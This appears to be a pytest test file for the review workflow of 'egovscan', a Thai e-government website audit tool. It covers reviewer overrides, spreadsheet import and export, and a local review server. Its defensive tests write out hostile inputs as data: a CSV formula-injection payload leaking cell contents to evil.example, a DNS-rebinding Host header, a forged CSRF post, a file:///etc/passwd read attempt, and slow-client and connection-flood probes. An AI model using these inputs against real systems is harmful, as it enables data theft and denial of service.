"""Reviews: a consultant's decision beats detection, stands for later runs, and is flagged when
the site changed since; spreadsheets round-trip; the product measures itself against reviews."""

from __future__ import annotations

import csv
import io
import json
import re
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request

import openpyxl
import sqlite_utils

from conftest import FAST, SHOTS, egovscan, make_site, needs_browser, open_browser
from egovscan.reviewsrv import MAX_CONNECTIONS


def osi(db, run_id, site_id):
    return db.execute("select osi_raw from scores where run_id = ? and site_id = ? and framework = 'un2012'",
                      [run_id, site_id]).fetchone()[0]


def test_reviews_beat_detection_stand_next_night_and_flag_drift(two_nights, tmp_path):
    db_path, _ = two_nights
    db = sqlite_utils.Database(db_path)
    assert osi(db, 1, "s3") == 7
    # night 1: s3 takes payments at the counter's kiosk site the crawl cannot see
    egovscan("review", "set", "s3", "payment.online", "--state", "present", "--by", "somchai", "--run", 1,
             "--note", "pays through the provincial portal", "--evidence", "https://pay.example.go.th/s3", "--db", db_path)
    assert osi(db, 1, "s3") == 7 + 7.5                         # re-scored with the review
    # night 1: s2 has no online payment, says the consultant (the detector agrees)
    egovscan("review", "set", "s2", "payment.online", "--state", "confirm", "--by", "somchai", "--run", 1,
             "--db", db_path)
    # night 2: s2 now shows a payment link; the review stands but is flagged
    egovscan("score", "--db", db_path, "--quiet")
    assert osi(db, 2, "s3") == 7 + 7.5                         # the review stands on the next run
    assert osi(db, 2, "s2") == 2.8                             # reviewed absent beats detected present
    listing = egovscan("review", "list", "--db", db_path).stdout
    assert "needs review" in listing                           # (the table may fold the reason)
    assert "s3" in listing and "overridden" in listing
    document = json.loads(egovscan("export", "--db", db_path, "--format", "json").stdout)
    s2 = next(s for s in document["sites"] if s["site_id"] == "s2")["features"]["payment.online"]
    assert (s2["state"], s2["detected"], s2["origin"], s2["needs_review"]) == ("absent", "present", "overridden", True)
    assert s2["review"]["reviewer"] == "somchai"
    egovscan("report", "--db", db_path, "--out", tmp_path / "report", "--quiet")
    card = (tmp_path / "report" / "sites" / "s3.html").read_text("utf-8")
    # the card is the agency's: it says the finding was overridden, never the internal note,
    # the reviewer or the review workflow's flags (review list and the JSON export have those)
    assert "overridden · detected absent" in card and "pays through the provincial portal" not in card
    assert "somchai" not in card
    assert "needs review" not in (tmp_path / "report" / "sites" / "s2.html").read_text("utf-8")
    # history is kept: a second decision adds a row, the newest one stands
    egovscan("review", "set", "s3", "payment.online", "--state", "absent", "--by", "malee", "--run", 2, "--db", db_path)
    assert db.execute("select count(*) from reviews where site_id = 's3'").fetchone()[0] == 2
    assert osi(db, 2, "s3") == 7
    stats = egovscan("review", "stats", "--db", db_path).stdout
    assert "payment.online" in stats


def test_review_spreadsheet_round_trip_and_bad_rows(two_nights, tmp_path):
    db_path, _ = two_nights
    egovscan("score", "--db", db_path, "--quiet")
    egovscan("review", "set", "s1", "media.audio_video", "--state", "present", "--by", "somchai",
             "--note", "video on the agency's channel", "--db", db_path)
    exported = egovscan("review", "export", "--db", db_path).stdout
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert [(r["site_id"], r["feature"], r["label"], r["reviewer"]) for r in rows] == [
        ("s1", "media.audio_video", "present", "somchai")]
    sheet = tmp_path / "reviews.csv"
    sheet.write_text(exported.rstrip("\n") + "\n"
                     "s4,forms.dowload,present,,typo in the feature,malee,2026-11-20\n"
                     "s9,info.news,present,,no such site,malee,2026-11-20\n"
                     "s4,participate.poll,maybe,,bad state,malee,2026-11-20\n"
                     "s4,participate.poll,present,https://s4.example.go.th/poll,poll page,malee,2026-11-20,yes\n"
                     "s4,info.news,present,,public maybe,malee,2026-11-20,perhaps\n", "utf-8")
    proc = egovscan("review", "import", sheet, "--db", db_path, check=False)
    assert proc.returncode == 2
    assert "reviews.csv, line 3: unknown feature 'forms.dowload'" in proc.stderr
    assert "line 4: run 2 has no assessed site 's9'" in proc.stderr
    assert "line 5: state must be one of present, absent, not_applicable or confirm, got 'maybe'" in proc.stderr
    assert "line 7: public is yes or empty (or no), got 'perhaps'" in proc.stderr
    assert "2 review(s) loaded, 4 row(s) skipped" in proc.stderr
    db = sqlite_utils.Database(db_path)
    assert osi(db, 2, "s4") == 38.5 + 7.5                       # the good poll row counted
    again = list(csv.DictReader(io.StringIO(egovscan("review", "export", "--db", db_path).stdout)))
    assert len(again) == 3                                      # ordered by review date: the sheet's come first
    assert again[0]["evidence_path"] == "https://s4.example.go.th/poll" and again[0]["date"] == "2026-11-20"
    assert again[0]["public"] == "yes" and again[2]["public"] == ""     # the note may reach the agency


def start_review_server(db_path, *args):
    """`egovscan review serve` on a free port; returns (process, address it printed)."""
    proc = subprocess.Popen([sys.executable, "-m", "egovscan", "review", "serve", "--db", str(db_path), "--port", "0",
                             *map(str, args)], stderr=subprocess.PIPE, text=True)
    line = proc.stderr.readline()
    match = re.search(r"at (http://\S+)", line)
    if not match:
        proc.kill()
        raise AssertionError(f"review serve did not start: {line}{proc.stderr.read()}")
    return proc, match.group(1)


def fetch(url, data=None, headers=None):
    request = urllib.request.Request(url, data=data, headers=headers or {})
    opener = urllib.request.build_opener(NoRedirect)
    try:
        with opener.open(request, timeout=10) as response:
            return response.status, dict(response.headers), response.read().decode("utf-8", "replace")
    except urllib.error.HTTPError as exc:
        return exc.code, dict(exc.headers), exc.read().decode("utf-8", "replace")


class NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args, **kwargs):
        return None


@needs_browser
def test_review_page_in_chromium_changes_the_state_and_the_score(two_nights):
    db_path, _ = two_nights
    egovscan("score", "--db", db_path, "--quiet")
    db = sqlite_utils.Database(db_path)
    assert osi(db, 2, "s3") == 7
    proc, address = start_review_server(db_path, "--by", "somchai")
    playwright, browser = open_browser()
    try:
        page = browser.new_page()
        dialogs = []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.goto(address)
        page.click("a[href='/site/s3']")
        row = page.locator("#f-payment\\.online")
        assert row.locator(".stands").inner_text() == "absent"
        row.get_by_role("button", name="present").click()           # one click: override to present
        page.wait_for_load_state()
        row = page.locator("#f-payment\\.online")
        assert row.locator(".stands").inner_text() == "present"
        assert "overridden · somchai" in row.locator(".origin").inner_text()
        assert "Score 14.5 " in page.locator("#score").inner_text()
        SHOTS.mkdir(exist_ok=True)
        page.screenshot(path=str(SHOTS / "review-site.png"), full_page=True)
        # the database has the review, and the stored score changed with it
        review = db.execute("select state, reviewer, detected_state, run_id from reviews where site_id = 's3'").fetchall()
        assert review == [("present", "somchai", "absent", 2)]
        assert osi(db, 2, "s3") == 7 + 7.5
        # the archived copy of an evidence page opens sandboxed: no script, nothing fetched
        snapshot = page.locator("#f-info\\.contact a", has_text="archived copy").first.get_attribute("href")
        status, headers, body = fetch(address.rstrip("/") + snapshot)
        assert status == 200 and "<html" in body.lower()
        assert headers["Content-Security-Policy"].startswith("sandbox; default-src 'none'")
        # a second reviewer disagrees: listed for a third, who settles it
        egovscan("review", "set", "s3", "payment.online", "--state", "absent", "--by", "malee", "--db", db_path)
        page.goto(address)
        assert "malee: absent" in page.locator("tr.disagreement").inner_text()
        assert "s3" in egovscan("review", "disagreements", "--db", db_path).stdout
        page.goto(address + "site/s3")
        page.locator("#f-payment\\.online input[name=by]").fill("preecha")
        page.locator("#f-payment\\.online input[name=note]").fill("fees page links the bank's payment")
        page.locator("#f-payment\\.online input[name=public]").check()    # this note may reach the agency
        page.locator("#f-payment\\.online").get_by_role("button", name="present").click()
        page.wait_for_load_state()
        assert db.execute("select public from reviews where reviewer = 'preecha'").fetchall() == [(1,)]
        assert db.execute("select public from reviews where reviewer = 'somchai'").fetchall() == [(0,)]
        page.goto(address)
        assert page.locator("tr.disagreement").count() == 0
        assert osi(db, 2, "s3") == 7 + 7.5
        assert not dialogs
    finally:
        browser.close()
        playwright.stop()
        proc.terminate()
        proc.wait(10)


def test_review_server_refuses_other_hosts_forged_posts_and_open_remote_binds(two_nights):
    db_path, _ = two_nights
    proc, address = start_review_server(db_path)
    try:
        assert fetch(address)[0] == 200
        assert fetch(address, headers={"Host": "attacker.example"})[0] == 421       # DNS rebinding
        form = "site=s3&feature=payment.online&state=present&by=mallory&csrf=guess".encode()
        assert fetch(address + "review", data=form)[0] == 403                      # cross-site post
        assert fetch(address + "snapshot?site=s3&url=file:///etc/passwd")[0] == 404
        assert sqlite_utils.Database(db_path).execute("select count(*) from reviews").fetchone()[0] == 0
    finally:
        proc.terminate()
        proc.wait(10)
    refused = egovscan("review", "serve", "--db", db_path, "--host", "127.0.0.2", check=False)
    assert refused.returncode == 2 and "add --allow-remote" in refused.stderr
    proc, address = start_review_server(db_path, "--host", "127.0.0.2", "--allow-remote", "--token", "s3cret-token")
    try:
        bare = address.split("?")[0]
        assert fetch(bare)[0] == 403
        status, headers, _ = fetch(address)                                          # the printed address
        assert status == 303 and "HttpOnly" in headers["Set-Cookie"]
        assert fetch(bare, headers={"Cookie": "egovscan_review=s3cret-token"})[0] == 200
    finally:
        proc.terminate()
        proc.wait(10)


def test_review_page_in_thai_with_lang_th(two_nights):
    """Thai consultants review in Thai: `review serve --lang th` words the whole page in Thai
    and a decision made from it is recorded like any other."""
    db_path, _ = two_nights
    egovscan("score", "--db", db_path, "--quiet")
    proc, address = start_review_server(db_path, "--lang", "th", "--by", "สมชาย")
    try:
        status, _, index = fetch(address)
        assert status == 200 and '<html lang="th">' in index
        assert "ตรวจทานผลรอบ 2" in index and "ตรวจทานแล้ว" in index
        status, _, page = fetch(address + "site/s3")
        assert status == 200
        for thai in ("ทุกเว็บไซต์", "ผลที่ใช้", "การตัดสิน", "ชื่อผู้ตรวจ", "ยืนยัน ไม่มี", "สำเนาที่เก็บไว้",
                     "ชำระเงินออนไลน์"):
            assert thai in page, thai
        for english in ("all sites", "Stands", "Decision", "your name", "Confirm", "archived copy", "not scored"):
            assert english not in page, english
        csrf = re.search(r'name="csrf" value="([^"]+)"', page).group(1)
        decision = {"csrf": csrf, "site": "s3", "feature": "payment.online", "state": "present"}
        # a decision without a name is refused in the page's words (not the CLI's --by), and nothing is recorded
        status, _, page = fetch(address + "review", data=urllib.parse.urlencode({**decision, "by": " "}).encode())
        assert status == 400 and "กรุณากรอกชื่อผู้ตรวจ" in page and "--by" not in page
        status, _, page = fetch(address + "site/no-such-site")
        assert status == 404 and '<html lang="th">' in page and "ไม่มีเว็บไซต์นี้ในรอบนี้" in page
        form = urllib.parse.urlencode({**decision, "by": "สมชาย"}).encode()
        assert fetch(address + "review", data=form)[0] == 303
        _, _, page = fetch(address + "site/s3")
        row = page.split('id="f-payment.online"', 1)[1].split("</tr>", 1)[0]
        assert "แก้ไขโดยผู้ตรวจ · สมชาย" in re.sub(r"<[^>]+>", "", row)     # the name is data: translate="no"
    finally:
        proc.terminate()
        proc.wait(10)
    review = sqlite_utils.Database(db_path).execute("select state, reviewer from reviews where site_id = 's3'").fetchall()
    assert review == [("present", "สมชาย")]


def raw_request(address, data: bytes, wait: float = 5) -> bytes:
    """Send bytes as they are to the server of an address; its whole answer (until it closes)."""
    parts = urllib.parse.urlsplit(address)
    with socket.create_connection((parts.hostname, parts.port), timeout=wait) as conn:
        conn.sendall(data)
        answer = b""
        while chunk := conn.recv(65536):
            answer += chunk
    return answer


def test_review_server_is_not_frozen_by_a_silent_client_or_a_bad_length(two_nights):
    """One client that connects and says nothing (or announces a body it never sends) must not
    freeze the page for every other reviewer, and a bad Content-Length is answered at once."""
    db_path, _ = two_nights
    proc, address = start_review_server(db_path)
    parts = urllib.parse.urlsplit(address)
    idle = []
    try:
        for opening in (b"GET / HTTP/1.1\r\n",
                        b"POST /review HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 500\r\n\r\nsite="):
            conn = socket.create_connection((parts.hostname, parts.port), timeout=5)
            conn.sendall(opening)
            idle.append(conn)
        time.sleep(0.3)
        started = time.monotonic()
        status, _, page = fetch(address)                    # another reviewer, while both hang on
        assert status == 200 and "s3" in page
        assert time.monotonic() - started < 5
        for length in (b"-1", b"abc", b"10000000", b"1, 2"):
            answer = raw_request(address, b"POST /review HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                                          b"Content-Length: " + length + b"\r\n\r\ncsrf=x")
            assert answer.startswith(b"HTTP/1.0 400 "), (length, answer[:80])
            assert b"Content-Length must be a whole number" in answer
        # Host: [::1] (the IPv6 loopback, default port) is a loopback name like any other
        assert raw_request(address, b"GET / HTTP/1.1\r\nHost: [::1]\r\n\r\n").startswith(b"HTTP/1.0 200 ")
        assert fetch(address, headers={"Host": "[::1]:8765"})[0] == 200
        assert fetch(address, headers={"Host": "attacker.example@127.0.0.1"})[0] == 421
        assert fetch(address, headers={"Host": "[::2]"})[0] == 421
    finally:
        for conn in idle:
            conn.close()
        proc.terminate()
        _, stderr = proc.communicate(timeout=10)
    assert "Traceback" not in stderr and "Error" not in stderr, stderr
    assert sqlite_utils.Database(db_path).execute("select count(*) from reviews").fetchone()[0] == 0
    # bound to the IPv6 loopback, it answers there; with a token, no body is read before the token
    proc, address = start_review_server(db_path, "--host", "::1")
    try:
        assert address.startswith("http://[::1]:") and fetch(address)[0] == 200
    finally:
        proc.terminate()
        proc.wait(10)
    proc, address = start_review_server(db_path, "--host", "127.0.0.2", "--allow-remote", "--token", "s3cret-token")
    try:
        answer = raw_request(address, b"POST /review HTTP/1.1\r\nHost: 127.0.0.2\r\nContent-Length: 60000\r\n\r\n")
        assert answer.startswith(b"HTTP/1.0 403 ")
    finally:
        proc.terminate()
        proc.wait(10)


def test_review_server_answers_a_flood_of_connections_busy_and_recovers(two_nights):
    """A flood of silent connections (a scanner, a stuck proxy) holds at most MAX_CONNECTIONS
    threads: one more is answered 503 at once instead of starting a thread of its own, and the
    page answers reviewers again as soon as the flood goes away."""
    db_path, _ = two_nights
    proc, address = start_review_server(db_path)
    parts = urllib.parse.urlsplit(address)
    flood = []
    try:
        for _ in range(MAX_CONNECTIONS):
            flood.append(socket.create_connection((parts.hostname, parts.port), timeout=5))
        deadline = time.monotonic() + 10
        while True:                       # the server takes the flood's connections one by one
            answer = raw_request(address, b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
            if answer.startswith(b"HTTP/1.0 503 ") or time.monotonic() > deadline:
                break
            time.sleep(0.1)
        assert answer.startswith(b"HTTP/1.0 503 ") and b"Retry-After: 5" in answer, answer[:80]
        for conn in flood:
            conn.close()
        flood.clear()
        deadline = time.monotonic() + 10
        while (status := fetch(address)[0]) != 200 and time.monotonic() < deadline:
            time.sleep(0.1)
        assert status == 200
    finally:
        for conn in flood:
            conn.close()
        proc.terminate()
        _, stderr = proc.communicate(timeout=10)
    assert "Traceback" not in stderr, stderr


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


def test_review_export_writes_formulas_inert_and_import_restores_them(two_nights, tmp_path):
    db_path, _ = two_nights
    egovscan("score", "--db", db_path, "--quiet")
    egovscan("review", "set", "s1", "media.audio_video", "--state", "present", "--by", "@SUM(1+1)",
             f"--note={FORMULA}", "--db", db_path)
    egovscan("review", "set", "s2", "info.news", "--state", "present", "--by", "malee",
             "--note=-2+3 pages list news", "--evidence", "https://s2.example.go.th/news", "--db", db_path)
    exported = egovscan("review", "export", "--db", db_path).stdout
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert (rows[0]["note"], rows[0]["reviewer"]) == ("'" + FORMULA, "'@SUM(1+1)")
    assert rows[1]["note"] == "'-2+3 pages list news"
    assert not [cell for row in csv.reader(io.StringIO(exported)) for cell in row
                if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    # the exported sheet loads back as it was written: the guard quote is taken off again
    sheet = tmp_path / "reviews.csv"
    sheet.write_text(exported, "utf-8")
    assert egovscan("review", "import", sheet, "--db", db_path).returncode == 0
    db = sqlite_utils.Database(db_path)
    imported = db.execute("select reviewer, note from reviews order by id desc limit 2").fetchall()
    assert sorted(imported) == sorted([("@SUM(1+1)", FORMULA), ("malee", "-2+3 pages list news")])


def test_xlsx_export_shows_formula_like_text_as_it_is_and_never_as_a_formula(tmp_path, serve):
    """XLSX cells beginning with =, +, - or @ are text cells: Excel shows exactly the text (no
    visible quote) and never evaluates it."""
    web = tmp_path / "web"
    make_site(web, "formulas", {"index.html": "<html lang='th'><head><meta charset='utf-8'><title>อบต.</title></head>"
                                              "<body><a href='/news.html'>-ข่าวประชาสัมพันธ์</a></body></html>",
                                "news.html": "<p>ข่าว</p>"})
    (web / "sites.csv").write_text(f'site_id,name,ministry\nformulas,"{FORMULA.replace(chr(34), chr(34) * 2)}",'
                                   f'- A\n', "utf-8")
    server = serve(web, third=94)
    db = tmp_path / "formulas.db"
    egovscan("run", server.sites_csv, "--db", db, "--out", tmp_path / "report", *FAST[:2], "--quiet")
    xlsx = tmp_path / "audit.xlsx"
    egovscan("export", "--db", db, "--format", "xlsx", "--output", xlsx)
    book = openpyxl.load_workbook(xlsx)
    sites = book["sites"]
    header = [c.value for c in sites[1]]
    name = sites.cell(row=2, column=header.index("name") + 1)
    ministry = sites.cell(row=2, column=header.index("ministry") + 1)
    assert (name.value, ministry.value) == (FORMULA, "- A")                    # shown as written
    guarded = [cell for sheet in book for row in sheet.iter_rows() for cell in row
               if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@"))]
    assert name in guarded and ministry in guarded
    for cell in guarded:
        assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
    assert not [cell.value for sheet in book for row in sheet.iter_rows() for cell in row
                if isinstance(cell.value, str) and cell.value.startswith("'")]
    rows = list(csv.reader(io.StringIO(egovscan("export", "--db", db, "--format", "csv").stdout)))
    assert rows[1][rows[0].index("name")] == "'" + FORMULA and rows[1][rows[0].index("ministry")] == "'- A"


def test_review_import_refuses_unreadable_dates_and_takes_unknown_as_no_decision(two_nights, tmp_path):
    db_path, _ = two_nights
    sheet = tmp_path / "labels.csv"
    sheet.write_text("site_id,feature,label,evidence_path,note,reviewer,date\n"
                     "s4,participate.poll,present,,poll page,malee,next tuesday\n"
                     "s4,info.news,unknown,,could not judge from the saved pages,malee,\n"
                     "s3,payment.online,present,,pays at the portal,malee,20/11/2569\n"
                     "s2,info.news,present,,,malee,๒๑ พ.ย. ๒๕๖๙\n"
                     "s1,info.news,present,,,malee,2026-02-30\n", "utf-8")
    proc = egovscan("review", "import", sheet, "--db", db_path, check=False)
    assert proc.returncode == 2
    assert "labels.csv, line 2: cannot read the date 'next tuesday'" in proc.stderr
    assert "labels.csv, line 6: cannot read the date '2026-02-30'" in proc.stderr
    assert "2 review(s) loaded, 2 row(s) skipped, 1 row(s) labelled unknown: no decision" in proc.stderr
    db = sqlite_utils.Database(db_path)
    assert db.execute("select site_id, feature, reviewed_at from reviews order by site_id").fetchall() == [
        ("s2", "info.news", "2026-11-21"), ("s3", "payment.online", "2026-11-20")]     # Buddhist Era read
    # a labels file whose only other rows are good: unknown rows are no reason to fail
    sheet.write_text("site_id,feature,label,evidence_path,note\n"
                     "s4,info.news,unknown,,\n"
                     "s4,participate.poll,present,,poll page\n", "utf-8")
    proc = egovscan("review", "import", sheet, "--by", "malee", "--db", db_path, check=False)
    assert proc.returncode == 0, proc.stderr
    assert "1 review(s) loaded, 0 row(s) skipped, 1 row(s) labelled unknown" in proc.stderr


def test_review_pages_in_thai_have_no_english_words_iso_dates_or_punycode(thai_domain_audit):
    """Under --lang th every word a reviewer reads is Thai: statuses, dates in the Buddhist Era
    in Bangkok time, a Thai domain shown in Thai; ids, names, notes and evidence are data
    (translate="no") and stay as written."""
    from datetime import datetime
    from zoneinfo import ZoneInfo

    from conftest import THAI_DOMAIN
    from test_report import LATIN_IN_THAI, THAI_MONTHS, visible

    from ground.catalogue import load_catalogue

    # product names the catalogue's Thai review instructions use too (Google)
    allowed = LATIN_IN_THAI | {word for feature in load_catalogue().values()
                               for word in re.findall(r"[A-Za-z][A-Za-z-]+", feature.review.get("th", ""))}
    db_path = thai_domain_audit
    egovscan("review", "set", "thaidomain", "info.legal", "--state", "confirm", "--by", "somchai",
             "--note", "checked the law page", "--db", db_path)
    db = sqlite_utils.Database(db_path)
    started, reviewed = db.execute("select r.started_at, v.reviewed_at from runs r, reviews v").fetchone()

    def buddhist(iso):
        when = datetime.fromisoformat(iso).astimezone(ZoneInfo("Asia/Bangkok"))
        return f"{when.day} {THAI_MONTHS[when.month - 1]} {when.year + 543}"

    proc, address = start_review_server(db_path, "--lang", "th", "--by", "สมชาย")
    try:
        pages = {path: fetch(address + path)[2] for path in ("", "site/thaidomain", "site/plain", "site/no-such-site",
                                                             "snapshot?site=plain&url=http://127.0.0.1:9/gone.html")}
    finally:
        proc.terminate()
        proc.wait(10)
    for path, html in pages.items():
        words = set(re.findall(r"[A-Za-z][A-Za-z-]+", visible(html, drop_data=True)))
        assert words <= allowed, (path, words - allowed)
        text = visible(html)
        assert not re.search(r"\d{4}-\d\d-\d\d", text), path                   # no ISO dates
        assert "xn--" not in text, path
        if not path.startswith(("site/no-such-site", "snapshot")):         # error pages have no footer
            assert buddhist(started) in text, path                            # the run's start, in the footer
    assert "สำเนาหน้าเว็บ" in visible(pages["snapshot?site=plain&url=http://127.0.0.1:9/gone.html"])   # not "WARC"
    index, site = visible(pages[""]), visible(pages["site/thaidomain"])
    assert "เก็บข้อมูลได้" in index                                            # the status in Thai
    assert f"http://{THAI_DOMAIN}:" in site                                    # the site's address
    assert re.search(rf"http://{THAI_DOMAIN}:\d+/\S*", site.split("หลักฐาน", 1)[1])   # evidence pages too
    row = pages["site/thaidomain"].split('id="f-info.legal"', 1)[1].split("</tr>", 1)[0]
    assert buddhist(reviewed) in visible(f"<html><body>{row}</body></html>")    # when it was reviewed
